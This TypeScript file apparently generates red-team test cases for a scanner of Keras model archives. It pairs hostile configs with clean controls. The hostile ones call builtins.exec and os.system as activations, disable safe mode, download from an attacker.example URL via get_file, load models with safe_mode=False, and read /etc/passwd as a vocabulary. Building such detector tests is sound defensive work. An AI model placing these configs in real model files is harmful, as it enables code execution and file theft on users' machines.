import { zip } from '../zip-writer.ts';
import type { RedTeamCase } from './types.ts';

/**
 * Keras v3 archives whose `config.json` makes `keras.saving.load_model` act, with the default
 * `safe_mode=True` of the Keras version named: functions resolved from `builtins` (Keras ≤ 3.8,
 * CVE-2025-1550), Keras' own API reached from a config (`get_file`, `enable_unsafe_deserialization`,
 * `TFSMLayer` — CVE-2025-8747, CVE-2025-9906), and lookup layers given a vocabulary path.
 */
const text = (s: string): Uint8Array => new TextEncoder().encode(s);

function keras(layers: object[], version = '3.8.0'): Uint8Array {
  const config = { module: 'keras', class_name: 'Sequential', config: { name: 'sequential', layers }, registered_name: null };
  return zip([
    { name: 'metadata.json', data: text(JSON.stringify({ keras_version: version, date_saved: '2025-01-01@00:00:00' })) },
    { name: 'config.json', data: text(JSON.stringify(config)) },
    { name: 'model.weights.h5', data: new Uint8Array(0) },
  ]);
}

const fn = (module: string, name: string) => ({ module, class_name: 'function', config: name, registered_name: null });
const dense = (activation: object = fn('keras.activations', 'relu')) => ({ module: 'keras.layers', class_name: 'Dense', config: { name: 'dense', units: 2, activation }, registered_name: null });
const layer = (className: string, config: object, module = 'keras.layers') => ({ module, class_name: className, config: { name: className.toLowerCase(), ...config }, registered_name: null });

export function kerasCases(): RedTeamCase[] {
  const hostile = (name: string, layers: object[], how: string): RedTeamCase => ({ name, kind: 'keras', file: `${name}.keras`, bytes: keras(layers), expect: 'dangerous', how });
  return [
    hostile('activation-builtins-exec', [dense(fn('builtins', 'exec'))], 'Keras ≤ 3.8 imports builtins and calls exec(tensor) as the activation'),
    hostile('activation-os-system', [dense(fn('os', 'system'))], 'Keras ≤ 3.8 imports os and calls os.system as the activation'),
    hostile('enable-unsafe-deserialization', [dense(fn('keras.config', 'enable_unsafe_deserialization'))], 'safe mode turned off from inside the config'),
    hostile('get-file-layer', [dense(), layer('get_file', { origin: 'https://attacker.example/x.tar.gz', extract: true }, 'keras.utils')], 'keras.utils.get_file downloads and extracts (CVE-2025-8747)'),
    hostile('tfsm-layer', [layer('TFSMLayer', { filepath: '/tmp/attacker_savedmodel', call_endpoint: 'serve' })], 'TFSMLayer loads another SavedModel by path'),
    hostile('lambda-load-model', [layer('Lambda', { function: fn('keras.models', 'load_model'), arguments: { safe_mode: false } })], 'a Lambda that loads a second model with safe_mode=False (CVE-2025-9906)'),
    hostile('string-lookup-absolute-path', [layer('StringLookup', { vocabulary: '/etc/passwd' })], 'StringLookup reads its vocabulary from an absolute path'),
    { name: 'dense-relu', kind: 'keras', file: 'dense-relu.keras', bytes: keras([dense(), dense(fn('keras.activations', 'softmax'))]), expect: 'clean', how: 'Dense layers with Keras activations' },
    { name: 'string-lookup-list', kind: 'keras', file: 'string-lookup-list.keras', bytes: keras([layer('StringLookup', { vocabulary: ['a', 'b'] })]), expect: 'clean', how: 'a StringLookup with its vocabulary inline' },
    { name: 'builtins-activation-name', kind: 'keras', file: 'builtins-activation-name.keras', bytes: keras([dense(fn('builtins', 'gelu'))]), expect: 'clean', how: 'Keras 3 writes built-in activations under the builtins module' },
  ];
}
